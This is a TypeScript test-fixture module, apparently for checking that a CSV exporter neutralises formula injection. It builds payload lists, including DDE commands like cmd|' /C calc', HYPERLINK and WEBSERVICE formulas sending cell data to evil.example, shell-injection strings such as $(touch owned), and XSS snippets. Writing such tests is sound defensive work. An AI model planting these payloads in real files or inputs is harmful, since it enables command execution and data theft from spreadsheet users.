// Cells that spreadsheets have taken for formulas, or that were made to become one behind a separator or a quote.
import fc from 'fast-check';

const COMMANDS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"open")',
  '1+1',
  'SUM(1+9)*cmd|" /C calc"!A0',
  'WEBSERVICE("https://evil.example")',
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const WAYS_IN = [
  '',
  ' ',
  "'",
  '"',
  ',',
  ';',
  '|',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '",',
  '";',
  "';'",
  '" , "',
  'x,',
  'x;',
  'x"',
  "x'",
  'x\t',
  'x\n',
  'x\r\n  ',
];

/** Each has a sign where some reader could begin a cell. */
export const FORMULAS: readonly string[] = [
  ...SIGNS.flatMap((sign) => COMMANDS.map((command) => sign + command)),
  ...WAYS_IN.flatMap((way) => SIGNS.slice(0, 6).map((sign) => `${way}${sign}1+1`)),
  '=',
  '-',
  '@SUM(A1)',
  '==1',
  '=-1',
  '+-1',
  '-2+3',
  '-5',
  '+5',
  '=1,=2;=3',
  '"="',
  '"",=1',
  '"";"=1"',
  'a,b\n=c',
  '\t=1',
  '\r=1',
  '\n=1',
  "'=1",
  "''=1",
  '‏,=1',
];

/** Nothing to disarm: they stay as they are. */
export const PLAIN: readonly string[] = [
  '',
  'Ask for the first project',
  'A - B',
  'a-b',
  'one+two',
  'x = y',
  'me@example.com',
  "it's",
  '3,4',
  'He said "no"',
  'C++',
  '<img src=x onerror=alert(1)>',
  '日本語',
  '🚀',
];

/** A small reader of RFC 4180 that knows nothing of the writer. Bare cells come back as `{ bare }`. */
export function readCsv(text: string): (string | { bare: string })[][] {
  const rows: (string | { bare: string })[][] = [];
  let row: (string | { bare: string })[] = [];
  for (let at = 0; at < text.length; ) {
    if (text[at] === '"') {
      let value = '';
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (at >= text.length) throw new Error('A quoted cell does not end.');
        if (text[at] === '"') at++;
        value += text[at];
      }
      row.push(value);
      at++;
    } else {
      const end = /,|\r\n/.exec(text.slice(at))?.index ?? text.length - at;
      const bare = text.slice(at, at + end);
      if (bare.includes('"')) throw new Error(`A quote in a bare cell: ${bare}`);
      row.push({ bare });
      at += end;
    }
    if (text[at] === ',') at++;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`Neither a comma nor a line end at ${at}.`);
    if (text[at - 1] === ',' && text.startsWith('\r\n', at)) {
      rows.push([...row, { bare: '' }]);
      row = [];
      at += 2;
    }
  }
  return rows;
}

/** All the cells any reader could see: split at every separator, quotes taken as text or as quotes. */
export const readCarelessly = (text: string): string[] => text.split(/[,;|\t\r\n"]+/).map((cell) => cell.trim());

/** What looks like something else to a spreadsheet, or is hard to write down at all. */
const AWKWARD: readonly string[] = [
  ...[
    '123',
    '0123',
    '00',
    '1.50',
    '1,5',
    '1e5',
    '-5.2',
    '+44 20 7946 0958',
    '12%',
    '$5',
    '0x1F',
    '1/2',
    '3-4',
    '1:30',
    'TRUE',
    '#N/A',
    '#REF!',
  ],
  ...[
    '2026-11-22',
    '22.11.2026',
    '11/22/26',
    'Nov 22',
    '2026-11-22 14:05:00',
    'MARCH1',
    'SEPT2',
    '9007199254740993',
    '1234567890123456789',
  ],
  ...['\0', 'a\0b', '\0=1+1', '\x01', '\x07bell', '\x1b[31mred', '\x7f', '\x85', '\uFFFE', '\uFFFF', '\uFEFF=1', '\uFEFF'],
  ...[
    '\ud800',
    '\udc00',
    'x\ud83d',
    '\ude00x',
    '\udc00\ud800',
    '=\ud800',
    '\u202e=1+1',
    '\u200f=1+1',
    'שלום',
    '\u2067=1\u2069',
    '\u202egpj.exe',
  ],
  ...[
    '_x0041_',
    '_x000D_',
    '_x005F_x0041_',
    '_xFFFF_',
    'a_x00',
    '&amp;',
    '&#61;1+1',
    '&lt;b&gt;',
    ']]>',
    '<![CDATA[x]]>',
    '<!--',
    '</t></is></c>',
  ],
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", 'javascript:alert(1)', '${7*7}', '{{7*7}}'],
  ...[
    '$(touch owned)',
    '`touch owned`',
    "'; touch owned; '",
    '\\',
    '\\n',
    '!!',
    '~',
    '*',
    '| a | b |',
    '[x](javascript:alert(1))',
    '@everyone',
    '#1',
    '- [ ] x',
  ],
  ...[
    ' ',
    '  two  spaces  ',
    ' lead',
    'trail ',
    '\ttab',
    'a\tb',
    'a\nb',
    'a\r\nb',
    'a\rb',
    '\n',
    '\r',
    '\u2028',
    '\u00a0=1',
    '\u3000=1',
    '\v=1',
    '\f=1',
  ],
  ...["'", "''", "'quoted'", '"', '""', '"""', '";"', ',', ';;', 'é', 'é', '👩‍👩‍👧‍👦', 'ﷺ', 'İ', 'ß', '𝒳'],
  ...['x'.repeat(300), '=1+1 '.repeat(60), '"'.repeat(150), '\n'.repeat(50), '日'.repeat(300), '😀'.repeat(150)],
];

const SIGNED = fc.string({
  unit: fc.constantFrom(...'=+-@＝＋－＠\'",;|\t\r\n ax1().!$#_<>&', '\0', '\u202e', '\ud800', '\u200b'),
  maxLength: 24,
});
const ANY = fc.string({ unit: 'binary', maxLength: 40 });

/** Two thousand different cells, the same in every run; none is empty. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...[...FORMULAS, ...AWKWARD, ...PLAIN].filter(Boolean),
    ...SIGNS.flatMap((sign) => COMMANDS.flatMap((command) => WAYS_IN.map((way) => `${way}${sign}${command}`))),
    ...fc.sample(SIGNED, { numRuns: 1500, seed: 1 }),
    ...fc.sample(ANY, { numRuns: 500, seed: 2 }),
  ]),
]
  .filter(Boolean)
  // Every kind of them, not the first two thousand of one kind.
  .filter((_, i, all) => i < FORMULAS.length + AWKWARD.length || i % Math.max(1, Math.floor(all.length / 2000)) === 0)
  .slice(0, 2000);
